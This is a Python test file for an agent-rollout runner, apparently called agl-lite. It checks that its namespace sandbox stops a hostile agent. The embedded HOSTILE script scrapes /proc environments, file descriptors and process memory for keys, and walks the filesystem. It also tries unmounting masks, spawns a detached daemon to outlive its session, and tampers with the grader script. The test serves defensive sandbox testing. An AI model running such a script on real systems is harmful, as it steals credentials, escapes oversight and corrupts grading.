"""Issue #15 C1: a hostile agent started by the local runner of a real `agl-lite run` process tries every way open
to it to the admin key, another rollout's grader key and reference answer, and to a process that outlives its
attempt. Run with the gateway as root and as an unprivileged user (`nobody`, when the suite runs as root; the user
running the suite otherwise), and with both agents started fresh or forked from the runner's fork server (the
hostile one then also scans the memory it inherited from the server, which B's key never entered). The same agent
with `isolation = "none"` finds the other rollout's grader key: the scan is not blind, the sandbox is what stops it.
"""

from __future__ import annotations

import os
import pwd
import secrets
import shutil
import sys
import tempfile
from collections.abc import AsyncIterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import tomli_w

from agl_lite.client import AglLiteClient
from agl_lite.core.contract import KeyRole, derive_key
from agl_lite.store.records import RolloutConfig, RolloutStatus
from agl_lite.store.rules import RolloutSpec
from bench.harness.gateway_process import gateway_processes, start_gateway
from tests.runner.probe import Probe, exited, marked_pids, running_probe

HOSTILE = r"""
import sys
forked = "xml.dom.minidom" in sys.modules  # preloaded by the fork server only
import os
inherited = []  # descriptors it was handed beyond stdio (a report pipe to forge its exit with, a log to write in)
for fd in range(3, 1024):
    try:
        os.fstat(fd)
    except OSError:
        continue
    target = os.readlink(f"/proc/self/fd/{fd}")
    if target != "/dev/null":  # (a forked step's stale numbers point there: nothing to reach through them)
        inherited.append(target)
import ctypes, json, re, subprocess, urllib.request
task = json.loads(os.environ["AGL_TASK_INPUT"])
loot = bytearray()
stats = {"pids": 0, "files": 0, "mem_bytes": 0, "forked": forked, "fds": inherited}
stats["ipc"] = os.readlink("/proc/self/ns/ipc")  # System V objects it makes, seen by whom
with open("/proc/self/status") as status:  # capabilities of this very process (a forked step execs nothing)
    stats["cap_eff"] = [line.split()[1] for line in status if line.startswith("CapEff")][0]

def grab(path, limit=4 << 20):
    try:  # non-blocking: a pipe or a FIFO would hold the scan forever
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        with open(fd, "rb") as f:
            data = f.read(limit) or b""
    except OSError:
        return
    loot.extend(path.encode() + b"\n" + data + b"\n")
    stats["files"] += 1

def memory(pid):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as mem:
            for line in maps:
                lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
                if "rw" in line.split()[1] and hi - lo < 64 << 20:
                    mem.seek(lo)
                    data = mem.read(hi - lo)
                    loot.extend(data)
                    stats["mem_bytes"] += len(data)
    except (OSError, ValueError, OverflowError):
        pass

# a daemon in a session of its own, out of the runner's process group
subprocess.Popen(["setsid", "sleep", task["marker"]], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
visible = {p for p in os.listdir("/proc") if p.isdigit()}
stats["pids"] = len(visible)
pids = visible | {str(task["gateway_pid"]), str(os.getppid()), "1"}
for pid in pids:
    for name in ("environ", "cmdline", "status"):
        grab(f"/proc/{pid}/{name}")
    memory(pid)
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            grab(f"/proc/{pid}/fd/{fd}", 1 << 20)
    except OSError:
        pass
for path in task["targets"]:
    grab(path)
walked = 0
for top in (task["workdir"], "/tmp"):
    for root, dirs, files in os.walk(top):
        for name in files[:200]:
            walked += 1
            if walked < 3000:
                grab(os.path.join(root, name), 1 << 20)
# whatever it could not read, it cannot unmask or undo either: by a program, or from this process
for argv in (["umount", "/proc"], ["umount", task["db"]], ["mount", "-o", "remount,rw", "/"]):
    subprocess.run(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
libc = ctypes.CDLL(None, use_errno=True)
runs = os.path.dirname(os.path.dirname(task["other"]))  # the mask over every runner's attempts
stats["unmounted"] = [p for p in (task["db"], runs) if libc.umount2(p.encode(), 2) == 0]
grab(task["db"])
grab(f"/proc/{task['gateway_pid']}/environ")
try:
    with open(task["grader_script"], "a") as f:
        f.write("\n# tampered\n")
    stats["tampered"] = True
except OSError:
    stats["tampered"] = False
with open(os.path.join(task["loot"], "loot.bin"), "wb") as f:
    f.write(loot)
with open(os.path.join(task["loot"], "stats.json"), "w") as f:
    json.dump(stats, f)
"""

WAITING_GRADER = 'curl -sf "$PROBE/started/grader" >/dev/null'


def _gateway_uid(user: str) -> int:
    return pwd.getpwnam("nobody").pw_uid if user == "unprivileged" and os.geteuid() == 0 else os.geteuid()


@dataclass
class Found:
    loot: bytes
    stats: dict[str, Any]
    daemon_pids: list[int]


def _users() -> list[str]:
    return ["root", "unprivileged"] if os.geteuid() == 0 else ["unprivileged"]


async def _attack(
    user: str, isolation: str, probe: Probe, *, key_in_file: bool, fork: bool = False
) -> tuple[Found, dict[str, str]]:
    """Rollout B (graded: its grader holds its key while it waits on the probe), then the hostile rollout A; what
    A read, and B's secrets to look for in it."""
    top = Path(tempfile.mkdtemp(prefix="agl-hostile-"))
    other: Path | None = None
    os.chmod(top, 0o755)
    loot_dir = top / "loot"
    loot_dir.mkdir()
    admin_key = secrets.token_hex(32)
    (top / "agent.py").write_text(HOSTILE)
    (top / "b.py").write_text("print('B was here')\n")
    (top / "grader.sh").write_text(WAITING_GRADER)
    runner: dict[str, Any] = {
        "isolation": isolation,
        "writable": [str(loot_dir)],
        "grace_s": 0.5,
        "env": {"PROBE": probe.url},
        "workdir": str(top),
    }
    if fork:  # both agents, B's first, are forks of one fork server (runner/forkserver.py)
        runner["preload"] = ["xml.dom.minidom"]
    doc = {
        "server": {"host": "127.0.0.1", "port": 0},
        "log": {"format": "json"},
        "addons": {
            "chain": ["store", "auth", "store_api", "runner"],
            "store": {"path": "agl.db"},
            "runner": runner,
        },
    }
    (top / "agl-lite.toml").write_text(tomli_w.dumps(doc))
    env = {k: v for k, v in os.environ.items() if k != "AGL_KEY"}
    if key_in_file:
        (top / "admin.key").write_text(admin_key + "\n")
        env["AGL_KEY_FILE"] = str(top / "admin.key")
    else:
        env["AGL_KEY"] = admin_key
    prefix: Sequence[str] = ()
    agent_python = sys.executable
    if user == "unprivileged" and os.geteuid() == 0:
        # the agent's interpreter must be one that user may start (not one in root's home directory)
        agent_python = shutil.which("python3", path="/usr/bin:/bin") or sys.executable
        _chown_tree(top, "nobody", "nogroup")
        prefix = ("setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups")
        env["HOME"] = str(top)
    try:
        async with gateway_processes() as started:
            gw = await start_gateway(top / "agl-lite.toml", env=env, prefix=prefix, replace_env=True)
            started.append(gw)
            async with AglLiteClient(gw.url, admin_key) as client:
                (b,) = await client.enqueue(
                    [
                        RolloutSpec(
                            {"q": "b"},
                            metadata={"reference": "REFERENCE-OF-B-" + secrets.token_hex(8)},
                            config=RolloutConfig(
                                runner={"command": [agent_python, str(top / "b.py")] if fork else ["true"]},
                                grader={"command": ["/bin/sh", str(top / "grader.sh")]},
                            ),
                        )
                    ]
                )
                await probe.wait_started("grader")  # B's grader runs, with B's grader key in its env
                # Another runner of the same user: its attempts' directories, with a secret in one of them.
                runs = Path(tempfile.gettempdir()) / f"agl-runs-{_gateway_uid(user)}"
                assert runs.is_dir()  # (the gateway's runner made it at start-up)
                other = Path(tempfile.mkdtemp(prefix="runner-", dir=runs))
                other_secret = "ANOTHER-RUNNERS-ATTEMPT-" + secrets.token_hex(8)
                (other / "notes").write_text(other_secret)
                if user == "unprivileged" and os.geteuid() == 0:
                    _chown_tree(other, "nobody", "nogroup")
                task = {
                    "loot": str(loot_dir),
                    "marker": probe.marker,
                    "gateway_pid": gw.pid,
                    "workdir": str(top),
                    "db": str(top / "agl.db"),
                    "grader_script": str(top / "grader.sh"),
                    "targets": [
                        *(
                            str(top / n)
                            for n in ("agl.db", "agl.db-wal", "agl.db-shm", "agl-lite.toml", "admin.key")
                        ),
                        str(other / "notes"),
                    ],
                    "other": str(other / "notes"),
                }
                (a,) = await client.enqueue(
                    [
                        RolloutSpec(
                            task,
                            config=RolloutConfig(runner={"command": [agent_python, str(top / "agent.py")]}),
                        )
                    ]
                )
                result = await client.wait([a.id], 120.0, poll_s=120.0)
                assert result.pending == [], gw.log_tail()
                (done,) = result.rollouts
                assert done.status is RolloutStatus.SUCCEEDED, done.message
                daemons = marked_pids(probe.marker)
                probe.release()
                await client.wait([b.id], 60.0, poll_s=60.0)
                b_reference = b.metadata["reference"]
            await gw.stop()
        found = Found((loot_dir / "loot.bin").read_bytes(), _json(loot_dir / "stats.json"), daemons)
        wanted = {
            "admin key": admin_key,
            "B's grader key": derive_key(admin_key, b.id, KeyRole.GRADER),
            "B's agent key": derive_key(admin_key, b.id, KeyRole.AGENT),
            "B's reference answer": b_reference,
            "another runner's attempt": other_secret,
            "A's own agent key": derive_key(admin_key, a.id, KeyRole.AGENT),
        }
        return found, wanted
    finally:
        for pid in marked_pids(probe.marker):  # a daemon the unconfined control run left behind
            os.kill(pid, 9)
        shutil.rmtree(top, ignore_errors=True)
        if other is not None:
            shutil.rmtree(other, ignore_errors=True)


def _chown_tree(top: Path, user: str, group: str) -> None:
    shutil.chown(top, user, group)
    for path in top.rglob("*"):
        shutil.chown(path, user, group)


def _json(path: Path) -> dict[str, Any]:
    import json

    return dict(json.loads(path.read_text()))


@pytest.fixture
async def probe() -> AsyncIterator[Probe]:
    async with running_probe() as p:
        p.hold = True
        yield p


@pytest.mark.parametrize("user", _users())
@pytest.mark.parametrize("key_in_file", [False, True], ids=["key-in-env", "key-in-file"])
@pytest.mark.parametrize("fork", [False, True], ids=["fresh", "forked"])
async def test_a_hostile_local_agent_reaches_no_key_no_other_rollout_and_leaves_nothing_behind(
    user: str, key_in_file: bool, fork: bool, probe: Probe
) -> None:
    found, wanted = await _attack(user, "namespaces", probe, key_in_file=key_in_file, fork=fork)
    assert found.stats["forked"] is fork
    assert wanted["A's own agent key"].encode() in found.loot  # its own env: the scan reads what it can
    assert found.stats["files"] > 10
    leaked = [
        what
        for what, secret in wanted.items()
        if what != "A's own agent key" and secret.encode() in found.loot
    ]
    assert leaked == []
    assert found.stats["pids"] <= 4  # its own: the sandbox's init, itself, its daemon (and its `setsid`)
    assert found.stats["tampered"] is False  # nor the grader's program
    assert found.stats["fds"] == []  # stdio only: no report pipe to forge its exit status, no log to write in
    assert int(found.stats["cap_eff"], 16) == 0  # no capability, even in a forked step that execs nothing
    assert found.stats["unmounted"] == []  # so no mask comes off
    assert found.stats["ipc"] != os.readlink("/proc/self/ns/ipc")  # its System V objects are its attempt's
    for pid in found.daemon_pids:
        await exited(pid)


@pytest.mark.parametrize("user", _users()[-1:])
async def test_without_the_sandbox_the_same_agent_finds_another_rollouts_grader_key(
    user: str, probe: Probe
) -> None:
    found, wanted = await _attack(user, "none", probe, key_in_file=False)
    assert wanted["B's grader key"].encode() in found.loot
    assert wanted["another runner's attempt"].encode() in found.loot
    assert found.stats["tampered"] is True
    assert (
        wanted["admin key"].encode() not in found.loot
    )  # the gateway itself stays closed (non-dumpable, wiped)
